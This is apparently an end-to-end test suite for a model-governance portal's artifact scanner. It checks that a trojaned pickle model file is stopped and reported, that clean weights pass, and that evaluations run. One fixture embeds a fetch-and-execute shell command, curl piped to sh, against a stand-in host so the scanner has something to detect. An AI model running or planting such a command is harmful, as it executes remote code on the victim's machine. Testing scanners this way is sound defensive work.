import { expect, type Page } from '@playwright/test';
import type { Approval } from '@modelhub/backstage-plugin-models-common';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import type { Portal } from './harness';
import { portalTest } from './shared';
import { Api } from './support/api';
import { expectAccessible } from './support/axe';
import {
  safetensors,
  serveFiles,
  sha256,
  withPayload,
} from './support/modelFiles';
import { createShots } from './support/shots';

const GATE = 'Artifact security';
const FILES = {
  'helper.bin': withPayload('curl -s http://evil.example/x | sh'),
  'helper.safetensors': safetensors(250_000),
};

/** A model whose artifact the test's own server holds. */
const model = (
  name: string,
  title: string,
  artifact: { uri: string; digest?: string },
) => ({
  apiVersion: 'modelhub.dev/v1alpha1',
  kind: 'Model',
  metadata: { namespace: 'probe', name, title },
  spec: {
    type: 'classifier',
    lifecycle: 'active',
    owner: 'group:default/ml-platform',
    provider: 'probe',
    gatewayId: `probe/${name}`,
    license: { id: 'apache-2.0' },
    useCases: { intended: ['Tests of the scan'] },
    versions: [{ name: '1', artifact }],
  },
});

/** A portal of its own: it may reach the server of the test. */
const test = portalTest(async () => {
  const server = await serveFiles(FILES);
  const at = (name: keyof typeof FILES) => ({
    uri: `${server.url}/${name}`,
    digest: sha256(FILES[name]),
  });
  const hosts = [server.host];
  return {
    entities: [
      model('trojan', 'Helper with a secret', at('helper.bin')),
      model('honest', 'Honest helper', at('helper.safetensors')),
      model('gone', 'Helper that is gone', {
        uri: `${server.url}/nothing.safetensors`,
      }),
    ],
    config: {
      modelGovernance: {
        artifacts: {
          allowedHosts: hosts,
          privateHosts: hosts,
          plainHosts: hosts,
        },
      },
    },
    close: () => server.close(),
  };
});

/** Asks for a model in the browser; gives the row of the scan. */
async function ask(
  page: Page,
  portal: Portal,
  wanted: { model: string; version: string; tier: string; purpose: string },
) {
  const query = new URLSearchParams({
    entityRef: `model:${wanted.model}`,
    modelVersion: wanted.version,
    purpose: wanted.purpose,
    profile: 'customer-care',
  });
  await page.goto(`${portal.url}/model-governance/request?${query}`);
  await page.getByRole('radio', { name: wanted.tier }).check();
  await page
    .getByLabel('Justification')
    .fill('Short answers for the people of the desk.');
  // The form moves until it knows what the policy asks for.
  await expect(
    page.getByRole('group', { name: 'What the policy asks for' }),
  ).toBeVisible();
  await page.getByRole('button', { name: 'Submit request' }).click();
  await page.waitForURL(/\/model-governance\/approvals\/[\w-]{36}/);
  return page.getByRole('article', { name: GATE });
}

/** The bytes of a document of the check, fetched with the keyboard. */
async function fetchDocument(page: Page, name: RegExp): Promise<Buffer> {
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name }).focus();
  await page.keyboard.press('Enter');
  return fs.readFileSync(await (await download).path());
}

test.describe('the scan of artifacts', () => {
  test.describe.configure({ timeout: 5 * 60_000 });

  test('stops a payload that hides, says where it is, and files the evidence', async ({
    portal,
    people,
  }, testInfo) => {
    const shot = createShots('artifact-scan', testInfo);
    const { page: dana } = await people.as('Dana Developer');
    const row = await ask(dana, portal, {
      model: 'probe/trojan',
      version: '1',
      tier: 'Sandbox',
      purpose: 'experimentation',
    });
    await expect(row.getByText('Failed')).toBeVisible({ timeout: 60_000 });
    const findings = row.getByRole('table', {
      name: 'Findings in the artifact',
    });
    const payload = findings
      .getByRole('row')
      .filter({ hasText: 'pickle-dangerous-import' });
    await expect(payload).toContainText('critical, stops');
    await expect(payload).toContainText('helper.bin');
    await expect(payload).toContainText(/helper\/data\.pkl@\d+/);
    await expect(payload).toContainText('posix.system');
    await expect(row.getByText('As the catalog says.')).toBeVisible();
    await expect(dana.getByText('Changes requested').first()).toBeVisible();
    await row.scrollIntoViewIfNeeded();
    await shot(dana, 'stopped');
    await expectAccessible(dana, 'a scan that found something');

    const bom = await fetchDocument(dana, /^Download ML-BOM/);
    expect(JSON.parse(bom.toString())).toMatchObject({
      bomFormat: 'CycloneDX',
      metadata: {
        component: {
          type: 'machine-learning-model',
          name: 'Helper with a secret',
        },
      },
    });
    const sarif = await fetchDocument(dana, /^Download SARIF/);
    expect(JSON.parse(sarif.toString()).version).toBe('2.1.0');

    // The ledger names what was filed.
    const ada = await Api.as(portal, 'ada');
    const { items } = await ada.call<{
      items: Array<{ payload: { files: Record<string, string> } }>;
    }>(
      'GET',
      `model-governance/ledger?${new URLSearchParams({
        type: 'gate.evidence-filed',
        entityRef: 'model:probe/trojan',
      })}`,
    );
    expect(items).toHaveLength(1);
    expect(items[0].payload.files).toMatchObject({
      'bom.cdx.json': sha256(bom),
      'scan.sarif': sha256(sarif),
    });
  });

  test('answers as a scan on a laptop does', async ({
    portal,
    people,
  }, testInfo) => {
    const { page: dana } = await people.as('Dana Developer');
    // The bytes were scanned before, for the same question or for another one.
    const row = await ask(dana, portal, {
      model: 'probe/trojan',
      version: '1',
      tier: 'Internal',
      purpose: 'document-summarisation',
    });
    await expect(row.getByText('Failed')).toBeVisible({ timeout: 60_000 });
    const { files } = JSON.parse(
      (await fetchDocument(dana, /^Download JSON report/)).toString(),
    );
    const file = testInfo.outputPath('helper.bin');
    fs.writeFileSync(file, FILES['helper.bin']);
    const { stdout, status } = spawnSync(
      process.execPath,
      ['packages/cli/bin/modelhub', 'scan', '--json', file],
      { encoding: 'utf8' },
    );
    expect(status).toBe(1);
    const local = JSON.parse(stdout);
    expect(local).toMatchObject({
      verdict: 'malicious',
      sha256: files[0].sha256,
    });
    expect(local.findings).toEqual(files[0].findings);
  });

  test('lets weights through that hold nothing else', async ({
    portal,
    people,
  }, testInfo) => {
    const shot = createShots('artifact-scan-good', testInfo);
    const { page: dana } = await people.as('Dana Developer');
    const row = await ask(dana, portal, {
      model: 'probe/honest',
      version: '1',
      tier: 'Sandbox',
      purpose: 'experimentation',
    });
    await expect(row.getByText('Passed')).toBeVisible({ timeout: 60_000 });
    await expect(row.getByText('1 file, 977 KiB')).toBeVisible();
    await expect(row.getByText(/^None: nothing in 1 file/)).toBeVisible();
    await expect(dana.getByText('Approved').first()).toBeVisible();
    await row.scrollIntoViewIfNeeded();
    await shot(dana, 'passed');
    await expectAccessible(dana, 'a scan that found nothing');
  });

  test('says what to do when the artifact cannot be had', async ({
    portal,
    people,
  }, testInfo) => {
    const shot = createShots('artifact-scan-gone', testInfo);
    const { page: dana } = await people.as('Dana Developer');
    const row = await ask(dana, portal, {
      model: 'probe/gone',
      version: '1',
      tier: 'Sandbox',
      purpose: 'experimentation',
    });
    await expect(row.getByText('Could not run')).toBeVisible({
      timeout: 60_000,
    });
    await expect(row.getByText(/model's YAML/)).toBeVisible();
    await expect(
      row.getByRole('button', { name: `Run ${GATE} again` }),
    ).toBeVisible();
    await expect(dana.getByText('Approved')).toHaveCount(0);
    await row.scrollIntoViewIfNeeded();
    await shot(dana, 'could-not-run');
  });

  test("reads the demo's own model: what cannot run passes, a class nobody knows does not", async ({
    portal,
    people,
  }, testInfo) => {
    const shot = createShots('artifact-scan-demo', testInfo);
    const { page: dana } = await people.as('Dana Developer');
    const wanted = {
      model: 'acme/ticket-router',
      tier: 'Internal',
      purpose: 'document-summarisation',
    };
    const good = await ask(dana, portal, { ...wanted, version: '1.1' });
    await expect(good.getByText('Passed')).toBeVisible({ timeout: 60_000 });
    await expect(good.getByText(/^3 files, /)).toBeVisible();
    await expect(
      dana.getByText('You asked for this, so somebody else has to decide.'),
    ).toBeVisible();
    await good.scrollIntoViewIfNeeded();
    await shot(dana, 'version-1.1');

    const old = await ask(dana, portal, { ...wanted, version: '1.0' });
    await expect(old.getByText('Failed')).toBeVisible({ timeout: 60_000 });
    await expect(
      old.getByRole('row').filter({ hasText: 'pickle-unknown-import' }),
    ).toContainText('acme_training.encoders.LabelEncoder');
    await old.scrollIntoViewIfNeeded();
    await shot(dana, 'version-1.0');
  });

  test('its evaluation runs with a click, and the check that asked for it passes', async ({
    portal,
    people,
  }, testInfo) => {
    const shot = createShots('evaluation', testInfo);
    const { page: dana } = await people.as('Dana Developer');
    const asDana = await Api.as(portal, 'dana');
    const { id } = await asDana.call<Approval>(
      'POST',
      'model-governance/approvals',
      {
        body: {
          entityRef: 'model:acme/ticket-router',
          modelVersion: '1.2',
          tier: 'internal',
          purpose: 'support-answers',
          profile: 'customer-care',
          justification: 'Tickets of the desk in the right queue.',
          submit: true,
        },
      },
    );
    await dana.goto(`${portal.url}/model-governance/approvals/${id}`);
    const row = dana.getByRole('article', { name: 'Evaluation' });
    await expect(row.getByText('Needs evidence')).toBeVisible({
      timeout: 60_000,
    });
    const run = row.getByRole('button', {
      name: 'Run Support tickets',
      exact: true,
    });
    await run.scrollIntoViewIfNeeded();
    await expectAccessible(dana, 'a check that waits for an evaluation');
    await shot(dana, 'waiting');
    await run.click();

    // The page follows by itself, until the check has its answer.
    await expect(row.getByText('Passed')).toBeVisible({ timeout: 120_000 });
    const criteria = row.getByRole('table', {
      name: 'Criteria of Support tickets',
    });
    const accuracy = criteria.getByRole('row').filter({ hasText: 'Accuracy' });
    await expect(accuracy.first()).toContainText(/at least 70 %.*78 % \(/);
    await criteria.scrollIntoViewIfNeeded();
    await expectAccessible(dana, 'an evaluation beside its criteria');
    await shot(dana, 'passed');

    await dana.goto(
      `${portal.url}/catalog/acme/model/ticket-router/evaluations`,
    );
    const pack = dana.getByRole('region', {
      name: 'Support tickets',
      exact: true,
    });
    await expect(
      pack.getByRole('table', {
        name: 'Support tickets on version 1.2',
        exact: true,
      }),
    ).toBeVisible({ timeout: 30_000 });
    await expectAccessible(dana, 'the evaluations of a model');
    await shot(dana, 'of-the-model');

    // What the model said is for others.
    await expect(pack).toContainText('is for the owners of the model');
    const { page: priya } = await people.as('Priya Patel');
    await priya.goto(
      `${portal.url}/catalog/acme/model/ticket-router/evaluations`,
    );
    await priya.getByText(/cases went wrong$/).click({ timeout: 30_000 });
    await priya
      .getByRole('button', { name: 'Show the failed cases of Support tickets' })
      .click();
    await expect(
      priya.getByRole('list', { name: 'Failed cases of Support tickets' }),
    ).toContainText('Expected the label');
    await shot(priya, 'failed-cases');
  });
});
